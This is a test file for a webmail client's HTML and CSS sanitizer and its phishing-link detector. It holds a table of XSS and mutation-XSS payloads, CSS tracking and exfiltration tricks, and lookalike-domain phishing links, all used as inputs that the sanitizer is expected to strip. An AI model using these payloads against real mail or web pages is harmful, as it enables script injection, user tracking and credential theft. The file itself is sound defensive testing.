import { describe, expect, it } from 'vitest';
import { misleadingHost } from '#lib/webmail/html/misleading-link.ts';
import { safeStyleAttribute, safeStyleSheet } from '#lib/webmail/html/safe-css.ts';
import { sanitizeMailHtml } from '#lib/webmail/html/sanitize-mail-html.ts';

const blocked = { inlineImage: () => null, remoteImage: null };
const clean = (html: string): string => sanitizeMailHtml(html, blocked).html;
const css = { scope: 'm0', dark: false, picture: () => null };

/** Whatever a mail holds, none of this may come out. */
const forbidden =
  /<\/?(script|iframe|object|embed|form|input|button|textarea|select|base|meta|link|svg|math|video|audio|source|template|noscript|frame|frameset|applet|portal)\b|\son[a-z]+\s*=|javascript:|vbscript:|url\(|expression\(|@import|srcset|srcdoc|formaction|xlink|position\s*:|<!--/i;

const attacks: Record<string, string> = {
  'a script': '<p>a</p><script>alert(1)</script><p>b</p>',
  'a script split by tags': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'an event handler': '<img src=x onerror=alert(1)><body onload=alert(1)><p onclick="alert(1)">x</p>',
  'an event handler without spaces': '<img/src="x"/onerror=alert(1)>',
  'SVG animate that sets an address': '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  'SVG set that makes an image load': '<svg><image><set attributeName="href" to="https://track.example/a.png"/></image></svg>',
  'SVG with a foreign object': '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  'FuncIRI in a presentation attribute': '<svg><rect fill="url(https://track.example/x)" filter="url(https://track.example/y#f)"/></svg>',
  'FuncIRI on HTML': '<p style="filter:url(https://track.example/y#f);mask:url(https://t.example/m)">x</p>',
  'MathML that changes how the rest is parsed':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mutation through noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'mutation through a title': '<title><img src="</title><img src=x onerror=alert(1)>">',
  'mutation through a comment': '<!--><img src=x onerror=alert(1)>-->',
  'mutation through a style element': '<style><img src="</style><img src=x onerror=alert(1)//">',
  'mutation through a template': '<template><img src=x onerror=alert(1)></template>',
  'mutation through XMP': '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  'a conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  CDATA: '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'a javascript link':
    '<a href="javascript:alert(1)">x</a><a href="JaVaScRiPt&#58;alert(1)">y</a><a href=" \u0001javascript:alert(1)">z</a>',
  'a javascript link with line breaks': '<a href="java\nscript:alert(1)">x</a><a href="java&Tab;script:alert(1)">y</a>',
  'a data link': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'another base': '<base href="javascript:alert(1)//"><a href="x">y</a><base href="data:text/html,x"><img src="x">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a meta policy': '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  srcset:
    '<img srcset="https://track.example/1.png 1x, https://track.example/2.png 2x"><picture><source srcset="https://t.example/a"></picture>',
  'a background attribute':
    '<table background="https://track.example/bg.png"><tr><td background="https://track.example/b.png">x</td></tr></table>',
  'a form': '<form action="https://evil.example"><input name=password><button formaction="https://evil.example">x</button></form>',
  'an overlay': '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999">x</div>',
  'a style import': '<style>@import "https://track.example/a.css"; @import url(https://track.example/b.css);</style>',
  'a font from elsewhere': '<style>@font-face{font-family:x;src:url(https://track.example/f.woff)}</style>',
  'an attribute selector that leaks': '<style>input[value^="a"]{background:url(https://track.example/a)}</style>',
  'an unclosed url()': '<p style="background:url(https://track.example/a">x</p><style>p{background:url("https://track.example/b}</style>',
  'CSS variables':
    '<style>p{--x:url(https://track.example/a);background:var(--x)}</style><p style="--y:url(//t.example/b);background:var(--y)">x</p>',
  'escaped CSS': '<p style="background:u\\72l(https://track.example/a)">x</p><style>p{background:\\75rl(https://track.example/b)}</style>',
  'image-set': '<p style="background:image-set(&quot;https://track.example/a.png&quot; 1x)">x</p>',
  'an expression': '<p style="width:expression(alert(1))">x</p>',
  'a binding': '<p style="-moz-binding:url(https://evil.example/x.xml#a);behavior:url(#default)">x</p>',
  'a frame': '<iframe src="https://evil.example"></iframe><frameset><frame src="https://evil.example"></frameset>',
  'an object': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  media: '<video src="https://track.example/v" poster="https://track.example/p" autoplay></video><audio src="https://track.example/a">',
  'a link element': '<link rel="stylesheet" href="https://track.example/a.css"><link rel="dns-prefetch" href="//track.example">',
  ping: '<a href="https://ok.example" ping="https://track.example">x</a>',
  'an SVG picture as data': '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="data:text/html;base64,PHNjcmlwdD4=">',
  'our own routes': '<img src="/api/mail/part?folder=INBOX&uid=1&part=1"><a href="/api/mail/delete">x</a>',
};

describe('HTML of mails', () => {
  it.each(Object.entries(attacks))('lets nothing through of %s', (_, html) => {
    const result = clean(html);
    // the text of a title runs nowhere
    expect(result.replace(/ title="[^"]*"/g, '')).not.toMatch(forbidden);
    expect(result).not.toMatch(/track\.example|evil\.example|t\.example|\/api\/mail/);
  });

  it('links that leave out what browsers add lead where they lead there', () => {
    const letter =
      '<base href="https://shop.example/n/"><a href="weiter?a=1">a</a><a href="//x.example/b">b</a><a href="www.x.example">c</a>';
    const addresses = [...clean(letter).matchAll(/href="([^"]*)"/g)].map((match) => match[1]);
    expect(addresses).toEqual(['https://shop.example/n/weiter?a=1', 'https://x.example/b', 'http://www.x.example']);
    // without a base a relative address would be one of ours
    expect(clean('<a href="/mail/INBOX">x</a><a href="weiter">y</a>')).not.toContain('href');
  });

  it('keeps what letters are made of', () => {
    const html =
      '<table width="600" bgcolor="#ffffff"><tbody><tr><td align="center" style="padding:12px;color:#333"><b>Angebot</b><br>Größe</td></tr></tbody></table>';
    expect(clean(html)).toContain('style="padding:12px;color:#333333"');
    expect(clean(html)).toContain('bgcolor="#ffffff"');
    expect(clean(html)).toContain('<b>Angebot</b>');
    expect(clean(html)).toContain('Größe');
  });

  it('elements of an author’s own naming keep their looks', () => {
    const html = clean(
      '<style>x-box{color:red}</style><x-box style="color:#600">Kasten</x-box><time class="t">Montag</time><o:p style="color:red">x</o:p>',
    );
    expect(html).toContain('.m0 x-box{');
    expect(html).toMatch(/<x-box style="[^"]*color:[^"]*">Kasten<\/x-box><time class="m0-t">Montag<\/time>x/);
    expect(clean('<font-face-><annotation-xml>a</annotation-xml><x- onclick="1">b')).not.toMatch(/<(font-face|annotation|x-)/);
  });

  it('keeps plain rules and media queries of a style element, bound to the letter', () => {
    const sheet = '.a{color:red;position:fixed}@media (max-width:600px){.b{width:100% !important}}@import "x";.c{background:url(x)}';
    expect(safeStyleSheet(sheet, css)).toBe('.m0 .m0-a{color:#ff0000}@media (max-width:600px){.m0 .m0-b{width:100% !important}}');
    expect(safeStyleSheet('a{color:red}</style><script>', css)).not.toContain('<');
    expect(safeStyleAttribute('color:red;background:url(x);font-family:"Hanken Grotesk",serif', css)).toBe(
      'color:#ff0000;font-family:"Hanken Grotesk",serif',
    );
  });

  it.each([
    ['a broken declaration', 'p{color:;$:1;margin:0;colr:red;padding:4px}', '.m0 p{margin:0;padding:4px}'],
    ['a rule without its end', 'p{margin:0} q{padding:1px', '.m0 p{margin:0}.m0 q{padding:1px}'],
    ['an unknown selector beside good ones', 'p::marker,li,b:has(x){margin:0}', '.m0 li{margin:0}'],
    ['Outlook’s comment around all', '<!-- p.MsoNormal{margin:0cm} @page X{size:1pt} -->', '.m0 p.m0-MsoNormal{margin:0cm}'],
    [
      'the page itself',
      'html{margin:0}body{background:#eee}body.x #y{color:#fff}',
      '.m0{margin:0}.m0 .mail-page{background:#eeeeee}.m0 .mail-page.m0-x #m0-y{color:#ffffff}',
    ],
    ['a picture beside a colour', 'p{background:#102030 url(http://x.example/a.png) no-repeat}', '.m0 p{background:#102030 no-repeat}'],
    [
      'a gradient',
      'p{background-image:linear-gradient(to right,#fff,red 50%)}',
      '.m0 p{background-image:linear-gradient(to right,#ffffff,#ff0000 50%)}',
    ],
    ['heights of the window', 'p{min-height:100vh;width:50vw;margin:0}', '.m0 p{width:50%;margin:0}'],
    ['rules for the dark', '@media (prefers-color-scheme:dark){p{color:#fff}}p{margin:0}', '.m0 p{margin:0}'],
    ['an address without its end', '@media u/**/rl({a{margin:1px}}@supports (u/**/rl({a{margin:1px}}p{margin:0}', '.m0 p{margin:0}'],
    [
      'the scope around what Thunderbird quotes',
      '@scope { .kopf td{background:#1a5276;color:#fff} body,p{margin:0} body{padding:9px} @media (max-width:600px){html p{margin:1px}li{margin:2px}} }',
      '.m0 .m0-kopf td{background:#1a5276;color:#ffffff}.m0 p{margin:0}@media (max-width:600px){.m0 li{margin:2px}}',
    ],
    ['a scope whose place is not known', '@scope (.card){p{margin:0}}li{margin:0}', '.m0 li{margin:0}'],
    ['a line end in a string', 'p[title="a\\a b"]{margin:0}li{margin:0}', '.m0 li{margin:0}'],
    ['names of attributes', 'p[class~="x"],td[width="5"]{margin:0}', '.m0 p[class~="m0-x"],.m0 td[width="5"]{margin:0}'],
  ])('recovers from %s as browsers do', (_, sheet, expected) => {
    expect(safeStyleSheet(sheet, css)).toBe(expected);
  });

  it('knows the custom properties of an element in every letter, however often it was read before', () => {
    const html = '<div style="--brand:#123456;margin:0"><p style="color:var(--brand)">x</p></div>';
    expect(clean(html)).toContain('color:#123456');
    expect(clean(html)).toBe(clean(html));
  });

  it('knows the colours that pages of today are made with', () => {
    const red = [
      'oklch(62.8% .258 29.23)',
      'oklab(.628 .225 .126)',
      'lab(54.29 80.8 69.89)',
      'lch(54.29% 106.84 40.86)',
      'color(srgb 1 0 0)',
    ];
    for (const colour of [...red, 'color(display-p3 .9176 .2003 .1386)', 'light-dark(red, blue)', 'color-mix(in oklab, red, red 30%)'])
      expect(clean(`<p style="color:${colour}">x</p>`)).toContain('color:#ff0000');
    expect(clean('<p style="color:color-mix(in oklab, red 50%, transparent)">x</p>')).toContain('color:rgba(255,0,0,0.5)');
    for (const colour of [
      'color(constructor 1 2 3)',
      'lab(1e999 1 1)',
      'oklch(url(//t.example/a) 0 0)',
      'color-mix(in srgb, url(//t.example/b), red)',
    ])
      expect(clean(`<p style="color:${colour}">x</p>`)).not.toContain('style');
  });

  it('hides what the letter hides, and never all of it', () => {
    const forReaders = 'position:absolute;width:1px;height:1px;overflow:hidden';
    expect(clean(`<span style="${forReaders}">a</span>`)).toContain('display:inline-block');
    expect(clean(`<span style="${forReaders.replace('absolute', 'static')}">a</span>`)).not.toContain('display');
    expect(clean('<body hidden><p hidden>a</p><p hidden style="display:block">b</p>')).toMatch(
      /^(?:<div[^>]*(?<!hidden)>)*<p hidden>a<\/p><p style/,
    );
  });

  it('closes nothing around a menu by what stands in it, and keeps the choice of one that never ends', () => {
    expect(clean('<div><b>a<select><option><div>one</div></b></option></select>z</b></div>y')).toMatch(/<b>a.*one.*z<\/b><\/div>y/);
    expect(clean('<select><option>a</select><p>b<select><option>last')).toContain('last');
  });

  it('hides nothing behind what never ends, where another of its name ended before', () => {
    expect(clean('İİİİİİİİİİ<svg><text>drawn</text></svg><svg>Summe')).toMatch(/^((?!drawn).)*Summe/);
  });

  it('writes each colour with what it becomes in the dark: text light, what is behind it dark', () => {
    const both = safeStyleAttribute('color:#333;background-color:white', { ...css, dark: true });
    expect(both).toMatch(/^color:light-dark\(#333333,#[a-f]\w{5}\);background-color:light-dark\(#ffffff,#1\w2\w2\w\)$/);
    // a word that was marked is seen to be
    const marked = safeStyleAttribute('background-color:yellow', { ...css, dark: true });
    expect(marked).toMatch(/^background-color:light-dark\(#ffff00,#4\w4\w0\w\)$/);
  });

  it('never lets an end tag of the letter end what is around it', () => {
    for (const html of [
      '</div></div></div><p>x</p>',
      '<table><tr><td></div></td></tr></table></div>x',
      '<ul><li><div>a<li>b</div></div></ul>',
    ]) {
      expect(clean(html)).toMatch(/^<div class="m0"><div class="mail-page">[\s\S]*<\/div><\/div>$/);
    }
  });

  it('renames ids, classes, anchors and maps alike', () => {
    const html =
      '<a name="t" id="i" class="a b">x</a><a href="#t">y</a><img usemap="#k" src="cid:x"><map name="k"><area href="https://a.example/" coords="0,0,1,1"></map>';
    const result = clean(html);
    expect(result).toContain('<a name="m0-t" id="m0-i" class="m0-a m0-b">');
    expect(result).toContain('href="#m0-t"');
    expect(result).toContain('usemap="#m0-k"');
    expect(result).toContain('<map name="m0-k">');
    expect(result).toContain('<area coords="0,0,1,1" href="https://a.example/"');
  });

  it('finds the quotation at the end, and none where an answer stands behind or between', () => {
    const quote = '<blockquote type="cite">Geht Montag?</blockquote>';
    const tail = (html: string): string => sanitizeMailHtml(html, blocked).tailQuote.trim();
    expect(tail(`<p>Ja.</p>${quote}`)).toBe('Geht Montag?');
    expect(tail(`<p>Ja.</p>${quote}<p>Oder Dienstag.</p>`)).toBe('');
    expect(tail(`${quote}<p>Ja.</p>${quote}<p>Nein.</p>`)).toBe('');
    // as iPhones write it, with the line that introduces it in one of its own
    const two = `<div><blockquote type="cite">Am Montag schrieb Max:</blockquote></div>${quote}`;
    expect(tail(`<p>Ja.</p>${two}`)).toBe('Am Montag schrieb Max:\nGeht Montag?');
    expect(tail(`<p>Ja.</p>${two}<p>Oder Dienstag.</p>`)).toBe('');
    expect(tail(`<p>Ja.</p>${two}<p><img src="cid:plan@x"></p>`)).toBe('');
    expect(tail(quote)).toBe('');
    // what a program put below everything is nobody's answer
    const checked = '<div id="DAB4FAD8-2DD7-40BB-A1B8-4E2AA1F9FDF2"><table><tr><td>Virenfrei.</td></tr></table></div>';
    expect(tail(`<p>Ja.</p>${quote}${checked}`)).toBe('Geht Montag?');
    expect(tail(`<p>Ja.</p>${quote}${checked}<p>Oder Dienstag.</p>`)).toBe('');
    expect(tail(`<p>Ja.</p>${quote}<pre class="moz-signature">-- \nMax</pre>`)).toBe('Geht Montag?');
    const gmail = '<span class="gmail_signature_prefix">-- </span><br><div class="gmail_signature"><b>Max</b></div>';
    expect(tail(`<p>Ja.</p>${quote}${gmail}`)).toBe('Geht Montag?');
    expect(tail(`<p>Ja.</p>${quote}${gmail}<p>Nein.</p>`)).toBe('');
    const answered = '<blockquote type="cite">Geht Montag?<div class="moz-signature">Max</div><i>Nein</i></blockquote>';
    expect(tail(`<p>Ja.</p>${answered}`)).toBe('Geht Montag?\nMaxNein');
    expect(tail(`<div class="moz-signature">Max</div>${quote}`)).toBe('Geht Montag?');
    expect(clean(`<p>Ja.</p>${quote}`)).toContain('<blockquote data-quote="box"');
  });

  it('folds no footer with the quotation: nobody proves that its words were quoted', () => {
    const sign = '<pre class="moz-signature">-- \nMax. Nein!</pre>';
    const quote = '<div class="moz-cite-prefix">Am 23.11.2026 um 10:00 schrieb Max:</div><blockquote type="cite">Geht Montag?</blockquote>';
    const found = (html: string) => sanitizeMailHtml(html, blocked);
    const own = found(`<p>Ja.</p>${quote}${sign}`);
    expect(own.tailQuote).not.toContain('Nein');
    expect(own.html).toMatch(/<div data-quote="rest".*<pre data-quote="footer"/);
    const between = found(
      `<p>Ja.</p><blockquote type="cite">Max schrieb:</blockquote>${sign}<blockquote type="cite">Geht Montag?</blockquote>`,
    );
    expect(between.html).toContain('<pre data-quote="footer"');
    // that of the letter that is quoted is quoted, and proved as all of it is
    const quoted = found(`<p>Ja.</p><div id="divRplyFwdMsg">Von: Max</div><div><p>Geht Montag?</p>${sign}</div>`);
    expect(quoted.tailQuote).toContain('Nein');
    expect(quoted.html).not.toContain('"footer"');
  });

  it('blocks remote pictures, counts them, and takes out tracking pixels for good', () => {
    const html =
      '<img src="https://a.example/1.png" alt="Plan"><img src="https://a.example/p.gif" width="1" height="1"><img src="http://a.example/2.png" style="display:none">';
    const result = sanitizeMailHtml(html, blocked);
    expect(result).toMatchObject({ blockedImages: 1, removedTrackers: 2 });
    expect(result.html).toContain('<img alt="Plan">');
    expect(result.html.match(/<img/g)).toHaveLength(1);
    const shown = sanitizeMailHtml(html, {
      inlineImage: () => null,
      remoteImage: (url) => `/api/mail/image?url=${encodeURIComponent(url)}`,
    });
    expect(shown).toMatchObject({ blockedImages: 0, removedTrackers: 2 });
    expect(shown.html).toContain('/api/mail/image?url=https%3A%2F%2Fa.example%2F1.png');
  });

  it('shows inline pictures by their Content-ID and only those', () => {
    const options = { inlineImage: (id: string) => (id === 'logo@x' ? '/api/mail/part?part=2' : null), remoteImage: null };
    expect(sanitizeMailHtml('<img src="cid:logo@x"><img src="cid:other">', options).html).toContain(
      '<img src="/api/mail/part?part=2"><img>',
    );
  });

  it('opens links apart from us and tells the other side nothing', () => {
    expect(clean('<a href="https://muster.at/?a=1&amp;b=2">x</a>')).toContain(
      '<a href="https://muster.at/?a=1&#38;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  it('a picture keeps the shape that it was given, and wide tables can give way, where it is shown', () => {
    const shown = (html: string): string => sanitizeMailHtml(html, { ...blocked, dark: true }).html;
    expect(shown('<img src="data:image/gif;base64,R0==" width="600" height="20">')).toContain('style="--own:600px;aspect-ratio:600/20"');
    // so much of it stays beside long words in a narrow window (app/api/mail/frame/route.ts); a line or a counted pixel is no picture
    expect(shown('<img width="1" height="20">')).not.toContain('--own');
    expect(shown('<img width="600" style="color:red;width:40px">')).toContain('--own:40px');
    expect(clean('<img width="600">')).not.toContain('--own');
    expect(shown('<img width="600" height="20" style="height:auto">')).not.toContain('aspect-ratio');
    const wide = '<table width="600"><tr><td width="50">x</td></tr></table>';
    expect(shown(wide)).toMatch(/<table width="600" data-wide="" style="--wide:600px"><tr><td width="50">/);
    expect(clean(wide)).toContain(wide);
    expect(shown('<style>.a{width:600px}.b{max-width:150px}img{max-width:600px !important}</style>x')).toMatch(
      /\.m0-a\{width:600px\}@media \(max-width:700px\)\{\.m0 \.m0-a:where\(:not\(td,th\)\)\{width:100%;.*max-width:600px\}\}.*\.m0-b\{max-width:150px\}\.m0 img.*\{max-width:100% !important\}/,
    );
    // of cells none takes the place of its neighbours, and each selector of a list is meant
    expect(shown('<style>.a,.b{width:400px}</style>x')).toContain(
      '@media (max-width:480px){.m0 .m0-a:where(:is(td,th):not(:only-child)),.m0 .m0-b:where(:is(td,th):not(:only-child)){width:auto;min-width:0}}',
    );
    expect(shown('<style>.a:not(.b,.c){width:400px}</style>x')).toContain(
      '(max-width:700px){.m0 .m0-a:not(.m0-b,.m0-c):where(:not(td,th)){width:100%',
    );
    expect(clean('<style>.a{width:600px}</style>x')).not.toContain('@media');
  });

  it('a colour that was mistyped is a colour', () => {
    for (const [given, meant] of [
      ['#ffffff;', '#ffffff'],
      ['#FFFFF', '#fffff0'],
      ['eeeeeee', '#eeeeee'],
    ])
      expect(clean(`<table bgcolor="${given}"><tr><td>x</td></tr></table>`)).toContain(`bgcolor="${meant}"`);
    expect(clean('<table bgcolor="none"><tr><td>x</td></tr></table>')).not.toContain('bgcolor');
  });

  it('what old HTML says in attributes gives way to style sheets, where it is shown and where it is sent on', () => {
    const shown = (html: string): string => sanitizeMailHtml(html, { ...blocked, inlineImage: () => '/p', dark: true }).html;
    const old =
      '<body bgcolor="#eee" text="#111"><table bordercolor="red" background="cid:a"><tr><td bgcolor="#f00"><font color="blue">x</font></td></tr></table><hr color="red"></body>';
    const hints = [...shown(old).matchAll(/[";]([\w-]+):(?:light-dark|url)/g)].map(([, property]) => property);
    expect(hints).toEqual([
      ...['background-color', 'color', 'border-color', 'background-image', 'background-color', 'color', 'color'].map(
        (name) => `--hint-${name}`,
      ),
    ]);
    expect(clean('<td bgcolor="#f00" style="padding:0">x</td>')).toContain('<td bgcolor="#ff0000" style="padding:0">');
    // where HTML gives it no meaning it has none
    expect(shown('<div bgcolor="red" background="cid:a"><p color="red">x</p></div>')).not.toMatch(/hint|#ff0000|url/);
  });

  it('what a narrow window shows again is shown', () => {
    const sheet = (css: string): string => clean(`<style>.a{display:none}@media (max-width:600px){.a{${css}}}</style><p class="a">x</p>`);
    for (const word of ['initial', 'unset', 'revert', 'flow-root', 'inline-grid'])
      expect(sheet(`display:${word}!important`)).toContain(`display:${word} !important`);
    // as what is around it, which may be a layout that is counted (docs/decisions/127)
    expect(sheet('display:inherit !important')).toContain('display:revert !important');
    expect(sheet('visibility:unset;overflow:initial;max-height:initial')).toContain('visibility:unset;overflow:initial;max-height:initial');
  });

  it('an id with a blank in it is no id of a style sheet, and a place to jump to', () => {
    const html = clean('<style>#kopf{width:600px}</style><p id="kopf bild">x</p><a name="zur Mitte">y</a><a href="#zur%20Mitte">z</a>');
    expect(html).toContain('<p id="m0-kopf bild">');
    expect(html).toContain('name="m0-zur Mitte"');
    expect(html).toContain('href="#m0-zur%20Mitte"');
    expect(clean('<style>[id="kopf bild"]{margin:0}</style>x')).toContain('[id="m0-kopf bild"]');
  });

  it('a rule for the light asks for what else it asks for', () => {
    const media = (query: string): string => safeStyleSheet(`@media ${query}{p{margin:0}}`, css);
    const rule = '.m0 p{margin:0}';
    expect(media('(prefers-color-scheme: light)')).toBe(rule);
    expect(media('screen and (prefers-color-scheme:light)')).toBe(`@media screen{${rule}}`);
    expect(media('(prefers-color-scheme: light) and (max-width:600px)')).toBe(`@media (max-width:600px){${rule}}`);
    expect(media('(max-width:600px) and (prefers-color-scheme: no-preference)')).toBe(`@media (max-width:600px){${rule}}`);
    expect(media('print, (prefers-color-scheme:light)')).toBe(rule);
    expect(media('(prefers-color-scheme: dark)')).toBe('');
    expect(media('not (prefers-color-scheme: light)')).toBe('');
    expect(media('print, not (prefers-color-scheme: light)')).toBe(`@media print{${rule}}`);
    expect(media('(max-width:600px) or (prefers-color-scheme: light)')).toBe(rule);
  });

  it('ends for deeply nested and very long input', () => {
    expect(clean('<div>'.repeat(50_000))).not.toMatch(forbidden);
    expect(clean(`<p style="${'color:red;'.repeat(20_000)}">x</p>`)).toContain('<p>x</p>');
    expect(clean('<a href="'.repeat(10_000))).not.toMatch(forbidden);
  });
});

describe('a link whose text names another host', () => {
  it.each([
    ['https://www.sparkasse.at/login', 'https://evil.example/login', 'evil.example'],
    ['Ihre Bank www.raiffeisen.at', 'https://evil.example', 'evil.example'],
    ['paypal.com', 'https://paypal.com.evil.example/', 'paypal.com.evil.example'],
    ['paypal.com', 'https://paypa1.com/', 'paypa1.com'],
    ['https://paypal.com@evil.example/', 'https://paypal.com/', 'paypal.com'],
    ['www.muster.at', 'https://muster.at/angebot', null],
    ['muster.at', 'https://shop.muster.at/', null],
    ['Zum Angebot', 'https://click.versand.example/1', null],
    ['https://müller.at', 'https://xn--mller-kva.at/', null],
    ['office@muster.at', 'mailto:office@muster.at', null],
    ['Rechnung.pdf', 'https://shop.example/r', null],
    ['Dr.Huber', 'https://praxis.at', null],
    ['www.\u200bmusterbank.at', 'https://evil.example', 'evil.example'],
    ['musterbank。at', 'https://evil.example', 'evil.example'],
    ['bank.at/login', 'https://evil.example', 'evil.example'],
  ])('%s to %s: %s', (text, href, expected) => {
    expect(misleadingHost(text, href)).toBe(expected);
  });

  it('is no warning where the domain that vouches for the letter leads to itself, or counts who follows', () => {
    const [letter, toMany] = [
      { domain: 'google.com', counts: false },
      { domain: 'laden.at', counts: true },
    ];
    expect(misleadingHost('https://myaccount.google.com/x', 'https://accounts.google.com/y', letter)).toBe(null);
    expect(misleadingHost('https://myaccount.google.com/x', 'https://evil.example/y', letter)).toBe('evil.example');
    expect(misleadingHost('www.laden.at', 'https://click.versand.example/1', toMany)).toBe(null);
    expect(misleadingHost('www.bank.at', 'https://click.versand.example/1', toMany)).toBe('click.versand.example');
    expect(misleadingHost('boeslaeden.at', 'https://evil.example', { domain: 'laeden.at', counts: true })).toBe('evil.example');
  });

  it('looks behind the services that wrap every link', () => {
    const wrap = (address: string) => [
      `https://eur01.safelinks.protection.outlook.com/?url=${encodeURIComponent(address)}&data=05`,
      `https://www.google.com/url?q=${encodeURIComponent(address)}&sa=D`,
      `https://urldefense.com/v3/__${address}__;!!abc$`,
      `https://clicktime.symantec.com/3aB?u=${encodeURIComponent(address)}`,
    ];
    for (const href of wrap('https://www.huber.at/kontakt')) expect(misleadingHost('www.huber.at', href)).toBe(null);
    for (const href of wrap('https://evil.example/kontakt')) expect(misleadingHost('www.huber.at', href)).toBe('evil.example');
    // which of two the service follows is its own affair
    const [guarded = ''] = wrap('https://www.huber.at/kontakt');
    expect(misleadingHost('www.huber.at', guarded.replace('?', '?url=https%3A%2F%2Fevil.example&'))).toContain('safelinks');
    expect(misleadingHost('www.huber.at', 'https://www.google.com/search?q=https://www.huber.at')).toBe('www.google.com');
    expect(misleadingHost('www.huber.at', 'https://www.google.com/url?q=ftp://www.huber.at')).toBe('www.google.com');
  });

  it('takes no host for such a service that only writes its name', () => {
    const target = `?url=${encodeURIComponent('https://www.huber.at')}`;
    for (const place of [
      '/.safelinks.protection.outlook.com/',
      '/eur01.safelinks.protection.outlook.com/',
      ':81/a/eur01.safelinks.protection.outlook.com/',
    ])
      expect(misleadingHost('www.huber.at', `https://evil.example${place}${target}`)).toBe('evil.example');
    expect(misleadingHost('www.huber.at', `https://eur01.safelinks.protection.outlook.com.evil.example/${target}`)).toMatch(
      /evil\.example$/,
    );
  });
});
